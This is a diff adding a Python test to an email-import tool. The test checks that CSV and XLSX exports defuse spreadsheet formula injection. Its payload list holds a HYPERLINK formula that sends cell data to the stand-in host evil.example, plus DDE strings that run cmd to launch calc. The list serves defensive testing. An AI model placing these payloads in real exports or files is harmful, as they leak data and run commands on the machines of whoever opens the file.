@@ -220,3 +220,44 @@ def test_mbox_splits_at_envelope_lines_only(sqlite_url: str, runner: CliRunner, 
         stored = dict(conn.execute(sa.select(RawMessage.message_id, RawMessage.data)).all())
     engine.dispose()
     assert stored == {f"mbox-{i}@example.org": m for i, m in enumerate(messages)}
+
+
+# --------------------------------------------------------------------------- 3. exports
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+
+
+def test_exports_never_hold_a_formula(db_url: str, runner: CliRunner, env: Path,
+                                      tmp_path: Path) -> None:
+    box = tmp_path / "mail"
+    box.mkdir()
+    for i, formula in enumerate(FORMULAS):
+        (box / f"f{i}.eml").write_bytes(mail(b"F <f@example.org>", formula))
+    # a control character the XLSX format cannot hold, in the text the evidence comes from
+    (box / "esc.eml").write_bytes(mail(b"E <e@example.org>", "esc@example.org",
+                                       "1. Ja\x1b[2J, ik neem LDN.\n2. De huisarts.\n"))
+    invoke(runner, db_url, "import", str(box))
+    wanted = {*FORMULAS, "esc@example.org"}
+    assert stored_ids(db_url) == wanted
+
+    import csv
+    import io
+
+    invoke(runner, db_url, "export", "--format", "csv", "-o", str(tmp_path / "out.csv"))
+    text = (tmp_path / "out.csv").read_text("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {row["message_id"] for row in rows} == {"'" + f for f in FORMULAS} | {
+        "esc@example.org"}
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+    from openpyxl import load_workbook
+
+    invoke(runner, db_url, "export", "--format", "xlsx", "-o", str(tmp_path / "out.xlsx"))
+    sheet = load_workbook(tmp_path / "out.xlsx").active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
+    ids = {row[0].value for row in sheet.iter_rows(min_row=2)}
+    assert ids == {"'" + f for f in FORMULAS} | {"esc@example.org"}
